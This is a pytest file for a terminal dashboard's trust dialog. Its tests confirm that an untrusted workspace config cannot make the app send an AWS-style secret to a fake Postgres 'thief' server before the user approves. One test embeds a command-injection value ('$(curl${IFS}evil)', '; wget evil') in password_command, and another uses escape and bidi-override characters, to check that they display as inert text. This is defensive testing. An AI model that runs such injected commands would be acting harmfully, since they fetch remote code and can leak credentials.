"""The dashboard sends nothing that an untrusted file asks for, asks once for each content, and takes the answer up."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from textual.pilot import Pilot

from acode_tui.config import load, load_settings, workspace_config_path
from acode_tui.config.trust import read_trust
from acode_tui.tui.app import Dashboard
from acode_tui.tui.dialogs.trust import TrustDialog
from acode_tui.tui.main.screen import MainScreen
from acode_tui.tui.opening import open_for_dashboard
from acode_tui.workspace import open_workspace
from tests.clocks import GUARD_SECONDS
from tests.fake_postgres import PasswordCatcher, password_catcher
from tests.tui.driving import dashboard, shown, still, until
from tests.tui.driving import main_screen as main

SECRET = "wJalrXUtnFEMI-K7MDENG"
VARIABLE = "AWS_SECRET_ACCESS_KEY"


@pytest.fixture(autouse=True)
def environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv(VARIABLE, SECRET)
    monkeypatch.delenv("ACODE_POSTGRES_URL", raising=False)


@pytest.fixture
def thief() -> Iterator[PasswordCatcher]:
    with password_catcher() as catcher:
        yield catcher


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "shop" / ".agent").mkdir(parents=True, mode=0o700)
    return tmp_path / "shop"


def write(root: Path, thief: PasswordCatcher, more: str = "") -> None:
    workspace_config_path(root).write_text(
        f"""
[identity]
user = "ada@example.org"
[tui]
refresh_seconds = 0.1
[persistence.postgres]
enabled = true
host = "127.0.0.1"
port = {thief.port}
database = "loot"
username = "you"
password_env = "{VARIABLE}"
{more}"""
    )


async def record(root: Path) -> None:
    async with open_workspace(root) as workspace:
        await workspace.store.create_session("Something to send")


def over(root: Path) -> Dashboard:
    """A dashboard as the command opens it, with its worker."""
    settings = load_settings(root)
    return dashboard(root, open_for_dashboard(root, settings), settings=settings)


async def until_asked(pilot: Pilot[int]) -> TrustDialog:
    await until(pilot, lambda: isinstance(pilot.app.screen, TrustDialog))
    await until(pilot, lambda: "not now" in shown(pilot))
    dialog = pilot.app.screen
    assert isinstance(dialog, TrustDialog)
    return dialog


async def test_opening_sends_nothing_and_asks_what_is_at_stake(root: Path, thief: PasswordCatcher) -> None:
    write(root, thief)
    await record(root)
    async with over(root).run_test(size=(120, 40)) as pilot:
        await until_asked(pilot)
        text = shown(pilot)
        assert VARIABLE in text
        assert f"127.0.0.1:{thief.port}/loot" in text
        assert "persistence.postgres.host" in text
        assert SECRET not in text
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(pilot.app.screen, MainScreen))
        await until(pilot, lambda: "settings not trusted" in shown(pilot))
        await pilot.press("s")
        await still(pilot)
    assert (thief.connections, thief.passwords) == (0, [])
    assert not load(root).trusted


@pytest.mark.parametrize("typed", [["y"], ["enter"], ["escape"], ["space"], ["A"], list("trusty")])
async def test_a_hand_that_is_typing_does_not_approve(root: Path, thief: PasswordCatcher, typed: list[str]) -> None:
    write(root, thief)
    async with over(root).run_test(size=(120, 40)) as pilot:
        await until_asked(pilot)
        await pilot.press(*typed)
        await still(pilot, 3)
    assert not load(root).trusted
    assert thief.connections == 0


async def test_an_approval_is_taken_up_and_the_header_is_quiet_again(root: Path, thief: PasswordCatcher) -> None:
    write(root, thief)
    await record(root)
    async with over(root).run_test(size=(120, 40)) as pilot:
        await until_asked(pilot)
        await pilot.press("tab", "enter")
        await until(pilot, lambda: thief.passwords, seconds=GUARD_SECONDS)
        await until(pilot, lambda: "not trusted" not in shown(pilot))
        assert not pilot.app.screen.check_action("trust", ())
    assert set(thief.passwords) == {SECRET}
    assert load(root).trusted


async def test_each_content_is_asked_about_once_and_again_on_request(root: Path, thief: PasswordCatcher) -> None:
    write(root, thief)
    async with over(root).run_test(size=(120, 40)) as pilot:
        await until_asked(pilot)
        await pilot.press("escape")
        await until(pilot, lambda: read_trust(root).declined)
    async with over(root).run_test(size=(120, 40)) as pilot:
        await until(pilot, lambda: "settings not trusted" in shown(pilot))
        await still(pilot, 5)
        assert isinstance(pilot.app.screen, MainScreen), "the answer is kept for the next start"
        await pilot.press("A")
        await until_asked(pilot)
        await pilot.press("escape")
        await until(pilot, lambda: isinstance(pilot.app.screen, MainScreen))
        write(root, thief, "schema = 'other'\n")
        await until_asked(pilot)
        assert "schema" in shown(pilot)
    assert thief.connections == 0


async def test_a_file_that_a_pull_brings_is_asked_about(root: Path, thief: PasswordCatcher) -> None:
    async with over(root).run_test(size=(120, 40)) as pilot:
        await until(pilot, lambda: main(pilot).browser.loaded)
        assert pilot.app.screen.check_action("trust", ()) is False
        write(root, thief)
        await until_asked(pilot)
    assert thief.connections == 0


async def test_a_file_that_changes_while_the_question_is_open_is_not_approved(
    root: Path, thief: PasswordCatcher
) -> None:
    write(root, thief)
    async with over(root).run_test(size=(120, 40)) as pilot:
        first = await until_asked(pilot)
        write(root, thief, "schema = 'other'\n")
        await pilot.press("tab", "enter")
        await until(pilot, lambda: isinstance(pilot.app.screen, TrustDialog) and pilot.app.screen is not first)
        assert not load(root).trusted
    assert thief.connections == 0


async def test_nothing_of_what_is_approved_can_be_hidden(root: Path, thief: PasswordCatcher) -> None:
    """Neither as what looks like a secret, nor behind a long line, nor below the edge of the screen."""
    hidden = 'sh -c "x://$(curl${IFS}evil)@b' + " " * 300 + '; wget evil"'
    write(root, thief, f"password_command = '{hidden}'\n[backup]\ndirectory = '/the/last/one'\n")
    async with over(root).run_test(size=(80, 24)) as pilot:
        await until_asked(pilot)
        seen = ""
        await pilot.press("tab")
        while isinstance(pilot.app.screen, TrustDialog):
            seen += shown(pilot)
            assert not load(root).trusted
            await pilot.press("enter")
            await still(pilot, 3)
        assert "$(curl${IFS}evil)" in seen
        assert "; wget evil" in seen
        assert "/the/last/one" in seen
        assert "there is more below" in seen
        await until(pilot, lambda: load(root).trusted)


async def test_hostile_values_are_shown_as_text(root: Path, thief: PasswordCatcher) -> None:
    write(root, thief, '[backup]\ndirectory = "/x/\\u202e[/bold]\\u009b31m' + "y" * 300 + '"\n')
    async with over(root).run_test(size=(80, 24)) as pilot:
        await until_asked(pilot)
        dialog = pilot.app.screen
        dialog.query_one("VerticalScroll").scroll_end(animate=False)
        await still(pilot, 3)
        assert not {"\x1b", "\u202e", "\x9b"} & set(shown(pilot))
        assert "[/bold]" in shown(pilot)
        assert "not now" in shown(pilot), "the answers stay on screen"
